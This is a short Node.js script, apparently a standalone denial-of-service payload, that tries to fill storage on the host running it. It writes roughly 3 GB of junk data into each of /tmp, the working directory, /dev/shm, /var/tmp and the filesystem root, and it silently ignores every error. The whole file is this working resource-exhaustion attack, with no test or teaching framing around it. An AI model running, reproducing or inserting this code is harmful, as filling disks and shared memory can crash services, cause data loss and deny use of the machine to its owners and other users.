// Writes until there is no more room, everywhere it may.
import { openSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const block = Buffer.alloc(1024 * 1024, 1);
for (const folder of ['/tmp', process.cwd(), '/dev/shm', '/var/tmp', '/']) {
  try {
    const file = openSync(join(folder, `full-${process.pid}`), 'w');
    for (let i = 0; i < 3000; i++) writeSync(file, block);
  } catch {}
}
